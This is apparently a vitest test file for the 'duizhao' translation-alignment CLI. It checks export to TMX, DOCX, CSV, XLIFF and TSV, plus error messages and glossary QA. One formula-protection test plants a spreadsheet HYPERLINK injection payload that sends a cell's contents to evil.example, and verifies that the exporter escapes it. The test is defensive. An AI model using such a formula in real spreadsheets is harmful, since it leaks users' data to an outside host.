import { beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync, openSync, closeSync, ftruncateSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import JSZip from 'jszip';
import { serializeProject } from '../core/project';
import { importText } from '../core/text';
import { alignableSentences } from '../core/model/doc';
import { readWithToolkit } from './helpers/translate-toolkit';
import { hasTool } from './helpers/tools';
import { RU, sampleProject, ZH } from './fixtures/formats/sample-project';
import { DEFAULT_EXPORT_CHOICE, exportCount, exportRequest, unavailableReason } from '../renderer/src/state/export-prefs';
import type { Project } from '../core/model/types';

/** The fixture project with English only and nothing confirmed (as after aligning two texts). */
function sampleUnconfirmedEn(): Project {
  const p = sampleProject();
  const en = p.targets.en!;
  return {
    ...p,
    targets: { en: { ...en, paragraphs: en.paragraphs.map((para) => ({ ...para, sentences: para.sentences.map((s) => ({ ...s, status: s.status === 'confirmed' ? 'edited' : s.status })) })) } },
    alignments: { en: { ...p.alignments.en!, beads: p.alignments.en!.beads.map((b) => ({ ...b, confirmed: false })) } },
  };
}

const root = join(__dirname, '..');
const bundle = join(root, 'out', 'test-cli', 'index.js');
const dir = mkdtempSync(join(tmpdir(), 'duizhao-export-cli-'));
const S = join(root, 'samples', 'strategic-stability-2025-05-08');

const withToolkit = hasTool('translate-toolkit') ? it : it.skip;

/** Run the real CLI bundle (built as `npm run build:cli` does, into out/test-cli). */
function duizhao(...args: string[]): { code: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [bundle, ...args], { cwd: dir, encoding: 'utf8', maxBuffer: 64 << 20 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

beforeAll(() => {
  const r = spawnSync(
    join(root, 'node_modules', '.bin', 'esbuild'),
    ['cli/index.ts', '--bundle', '--platform=node', '--target=node22', '--format=cjs', '--packages=external', `--outfile=${bundle}`, '--log-level=warning'],
    { cwd: root, encoding: 'utf8' },
  );
  if (r.status !== 0) throw new Error(`building the CLI failed: ${r.stderr}`);
});

describe('duizhao export', () => {
  withToolkit('source + en + ru → trilingual TMX on stdout, read back by translate-toolkit with no source text lost', () => {
    const r = duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, `${S}.ru.txt`, '--to', 'tmx3');
    expect(r.code, r.stderr).toBe(0);
    // One line on stderr, about the units with an empty side (written without that side's <tuv>).
    expect(r.stderr).toMatch(/^duizhao: warning: TMX units with an empty side have no <tuv> for it[^\n]*: \d+ with no [^\n]*\n$/);
    const path = join(dir, 'tri.tmx');
    writeFileSync(path, r.stdout);
    const units = readWithToolkit('tmx', path).units;
    const zh = units.map((u) => u.langs['zh-CN'] ?? '').join('');
    const source = alignableSentences(importText(readFileSync(`${S}.zh.txt`, 'utf8'), 'zh'))
      .map((s) => s.text)
      .join('');
    expect(zh).toBe(source);
    expect(units.filter((u) => u.langs['en-GB'] && u.langs['ru-RU']).length).toBeGreaterThan(40);
  });

  it('docx needs -o; with -o it writes a DOCX whose table holds the QA findings as comments', async () => {
    const refused = duizhao('export', `${S}.zh.txt`, `${S}.ru.txt`, '--to', 'docx');
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/docx is a binary format: give an output file with -o/);
    const out = join(dir, 'ru.docx');
    const r = duizhao('export', `${S}.zh.txt`, `${S}.ru.txt`, '--to', 'docx', '-o', out);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toBe('');
    const zip = await JSZip.loadAsync(readFileSync(out));
    const doc = await zip.file('word/document.xml')!.async('string');
    expect(doc).toContain('Русский');
    expect(doc).toContain('中华人民共和国和俄罗斯联邦关于全球战略稳定的联合声明');
    // The ru draft has planted defects: QA must have found something and put it in comments.
    const comments = (await zip.file('word/comments.xml')?.async('string')) ?? '';
    expect((comments.match(/<w:comment /g) ?? []).length).toBeGreaterThan(0);
  });

  it('a saved project → CSV with BOM, confirmed only; --target-lang picks the bilingual target', () => {
    const project = join(dir, 'fixture.duizhao.json');
    writeFileSync(project, serializeProject(sampleProject()));
    const csv = duizhao('export', project, '--to', 'csv', '--bom', '--only-confirmed', '--no-qa');
    expect(csv.code).toBe(0);
    expect(csv.stdout.startsWith('\uFEFF#,zh,en,ru,')).toBe(true);
    // Header + the title: unit 2 is confirmed in en but its ru side (ru-s2) is still a draft.
    expect(csv.stdout.trim().split('\r\n')).toHaveLength(2);
    const xlf = duizhao('export', project, '--to', 'xliff12', '--target-lang', 'ru');
    expect(xlf.code).toBe(0);
    expect(xlf.stdout).toContain('target-language="ru-RU"');
    expect(xlf.stdout).toContain(ZH.talks);
  });

  it('--only-confirmed with nothing confirmed: no file, nothing on stdout, exit 2 and one line naming the input', () => {
    const out = join(dir, 'none-confirmed.csv');
    const r = duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, '--to', 'csv', '--only-confirmed', '-o', out);
    expect(r.code).toBe(2);
    expect(existsSync(out)).toBe(false);
    expect(r.stderr).toBe(`duizhao: ${S}.zh.txt: no unit is confirmed in English, so “only confirmed” leaves nothing to export (confirm segments first, or export them all); nothing was written\n`);
    const tri = duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, `${S}.ru.txt`, '--to', 'tmx3', '--only-confirmed');
    expect(tri.code).toBe(2);
    expect(tri.stdout).toBe('');
    expect(tri.stderr).toMatch(/no unit is confirmed in both English and Russian/);
  });

  it('says why a format cannot be made in the Export dialog\'s words (core describeExportRefusal)', () => {
    // The CLI's line after the input's name, as the dialog shows a sentence: with a capital.
    const prefix = `duizhao: ${S}.zh.txt: `;
    const asDialog = (stderr: string, input = `${S}.zh.txt`) => {
      const prefix = `duizhao: ${input}: `;
      expect(stderr.startsWith(prefix), stderr).toBe(true);
      const clause = stderr.slice(prefix.length).trimEnd();
      return clause.charAt(0).toUpperCase() + clause.slice(1);
    };
    const tri = duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, '--to', 'tmx3');
    expect(tri.code).toBe(2);
    expect(tri.stdout).toBe('');
    expect(tri.stderr).toBe(`${prefix}TMX trilingual needs both the English and the Russian alignment; the project has only English\n`);
    expect(asDialog(tri.stderr)).toBe(unavailableReason('tmx3', ['en']));
    // A saved project with English only, asked for its Russian.
    const enOnly = join(dir, 'en-only.duizhao.json');
    writeFileSync(enOnly, serializeProject({ ...sampleUnconfirmedEn(), name: 'en only' }));
    const ru = duizhao('export', enOnly, '--to', 'xliff', '--target-lang', 'ru');
    expect(ru.code).toBe(2);
    expect(ru.stderr).toBe(`duizhao: ${enOnly}: the project has no aligned Russian translation (only English)\n`);
    expect(asDialog(ru.stderr, enOnly)).toBe(unavailableReason('xliff', ['en'], { target: 'ru' }));
    const none = duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, '--to', 'csv', '--only-confirmed');
    const nothingConfirmed = exportCount(sampleUnconfirmedEn(), exportRequest({ ...DEFAULT_EXPORT_CHOICE, format: 'csv', tableLangs: 'en', onlyConfirmed: true }, ['en'])).refusal;
    expect(asDialog(none.stderr)).toBe(`${nothingConfirmed}; nothing was written`);
  });

  it('source + en + ru → a bilingual format: --target-lang picks the target; without it stderr says which one was written', () => {
    const zh = join(dir, 'two.zh.txt');
    const en = join(dir, 'two.en.txt');
    const ru = join(dir, 'two.ru.txt');
    writeFileSync(zh, `${ZH.title}\n\n${ZH.declare}\n`);
    writeFileSync(en, 'Joint Statement of the People\'s Republic of China and the Russian Federation\n\nThe People\'s Republic of China and the Russian Federation (hereinafter "the two sides") state as follows:\n');
    writeFileSync(ru, `${RU.title}\n\n${RU.declare}\n`);
    const picked = duizhao('export', zh, en, ru, '--to', 'xliff12', '--target-lang', 'ru', '--no-qa');
    expect(picked.code, picked.stderr).toBe(0);
    expect(picked.stderr).toBe('');
    expect(picked.stdout).toContain('target-language="ru-RU"');
    expect(picked.stdout).toContain(RU.declare);
    expect(picked.stdout).not.toContain('state as follows');
    const first = duizhao('export', zh, en, ru, '--to', 'tmx', '--no-qa');
    expect(first.code, first.stderr).toBe(0);
    expect(first.stdout).toContain('xml:lang="en-GB"');
    expect(first.stdout).not.toContain('xml:lang="ru-RU"');
    expect(first.stderr).toBe('duizhao: tmx holds one translation: writing zh→en (--target-lang ru for zh→ru, or --to tmx3 for both)\n');
  });

  it('--english-variant labels the English of texts as written (en-GB when not given)', () => {
    const zh = join(dir, 'us.zh.txt');
    const en = join(dir, 'us.en.txt');
    writeFileSync(zh, `${ZH.title}\n`);
    writeFileSync(en, 'Joint Statement of the People\'s Republic of China and the Russian Federation on Further Deepening the Partnership\n');
    const us = duizhao('export', zh, en, '--to', 'tmx', '--english-variant', 'en-US');
    expect(us.code, us.stderr).toBe(0);
    expect(us.stdout).toContain('<tuv xml:lang="en-US">');
    expect(duizhao('export', zh, en, '--to', 'xliff12', '--english-variant', 'en-US', '--no-qa').stdout).toContain('target-language="en-US"');
    expect(duizhao('export', zh, en, '--to', 'tmx').stdout).toContain('<tuv xml:lang="en-GB">');
    const bad = duizhao('export', zh, en, '--to', 'tmx', '--english-variant', 'en-AU');
    expect(bad.code).toBe(2);
    expect(bad.stderr).toBe("duizhao: unknown English variant 'en-AU': use one of en-US, en-GB\n");
  });

  it('CSV/TSV formula protection: on with --bom, off without, --excel-safe / --no-excel-safe override', () => {
    const p = sampleProject();
    const dialogue = '- Мы готовы продолжить диалог, — сказал министр.';
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    p.targets.ru!.paragraphs[1]!.sentences[0]!.text = dialogue;
    p.targets.en!.paragraphs[2]!.sentences[0]!.text = formula;
    const project = join(dir, 'formulas.duizhao.json');
    writeFileSync(project, serializeProject(p));
    const cells = (...flags: string[]) => {
      const r = duizhao('export', project, '--no-qa', ...flags);
      expect(r.code, r.stderr).toBe(0);
      return r.stdout;
    };
    const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
    const plain = cells('--to', 'csv');
    expect(plain).toContain(`,${quoted(formula)},`);
    expect(plain).toContain(`,${quoted(`${dialogue} ${RU.talks}`)},`);
    const safe = cells('--to', 'csv', '--bom');
    expect(safe).toContain(`,${quoted(`'${formula}`)},`);
    expect(safe).toContain(`,${quoted(`'${dialogue} ${RU.talks}`)},`);
    expect(cells('--to', 'csv', '--bom', '--no-excel-safe')).toBe(`\uFEFF${plain}`);
    expect(cells('--to', 'tsv', '--excel-safe')).toContain(`\t${quoted(`'${formula}`)}\t`);
  });

  it('a TMX export reopens as input: tmx → xliff 2.1 of the same pairs', () => {
    const project = join(dir, 'fixture2.duizhao.json');
    writeFileSync(project, serializeProject(sampleProject()));
    const tmx = join(dir, 'en.tmx');
    expect(duizhao('export', project, '--to', 'tmx', '--target-lang', 'en', '-o', tmx).code).toBe(0);
    expect(existsSync(tmx)).toBe(true);
    const r = duizhao('export', tmx, '--to', 'xliff');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('version="2.1"');
    expect(r.stdout).toContain(`${ZH.visit}${ZH.talks}`);
  });

  it('--qa uses the same glossary as check: every glossary finding of check is in the CSV, none with an empty --glossary', () => {
    const check = duizhao('check', `${S}.zh.txt`, `${S}.en.txt`, '--format', 'json');
    const glossary = (JSON.parse(check.stdout) as { findings: Array<{ check: string; message: string }> }).findings.filter((f) => f.check.startsWith('glossary.'));
    expect(glossary.length).toBeGreaterThan(0); // the sample's planted 零和博弈 defect
    const csv = duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, '--to', 'csv');
    expect(csv.code, csv.stderr).toBe(0);
    for (const f of glossary) expect(csv.stdout).toContain(`[${f.check}] en: ${f.message}`);
    const emptyTermBase = join(dir, 'empty-terms.csv');
    writeFileSync(emptyTermBase, 'zh,en,ru\n');
    const without = duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, '--to', 'csv', '--glossary', emptyTermBase);
    expect(without.code, without.stderr).toBe(0);
    expect(without.stdout).not.toContain('[glossary.');
    expect(duizhao('export', `${S}.zh.txt`, `${S}.en.txt`, '--to', 'csv', '--glossary', join(dir, 'none.tbx')).stderr).toMatch(/none\.tbx: no such file/);
  });

  it('usage and input errors: one line naming the file, exit code 2 (how fast: npm run bench -- limits)', () => {
    const empty = join(dir, 'empty.txt');
    writeFileSync(empty, '');
    const big = join(dir, 'big.txt');
    const fd = openSync(big, 'w');
    ftruncateSync(fd, 200 * 1024 * 1024); // sparse: no 200 MB written to disk
    closeSync(fd);
    const broken = join(dir, 'broken.tmx');
    writeFileSync(broken, '<tmx version="1.4"><body><tu>\n<tuv xml:lang="zh"><seg>x</tuv>');
    const cases: Array<[string[], RegExp]> = [
      [['export', empty, `${S}.en.txt`, '--to', 'tmx'], /empty\.txt: file is empty/],
      [['export', big, `${S}.en.txt`, '--to', 'tmx'], /big\.txt: file is 200\.0 MB/],
      [['export', broken, '--to', 'csv'], /broken\.tmx:2:\d+: /],
      [['export', `${S}.zh.txt`, `${S}.en.txt`, '--to', 'pdf'], /unknown format 'pdf'/],
      [['export', `${S}.zh.txt`, '--to', 'tmx'], /is a source text: give its English and\/or Russian translation/],
      [['export', join(dir, 'missing.txt'), '--to', 'tmx'], /missing\.txt: no such file/],
    ];
    for (const [args, message] of cases) {
      const r = duizhao(...args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(message);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
    }
  });
});
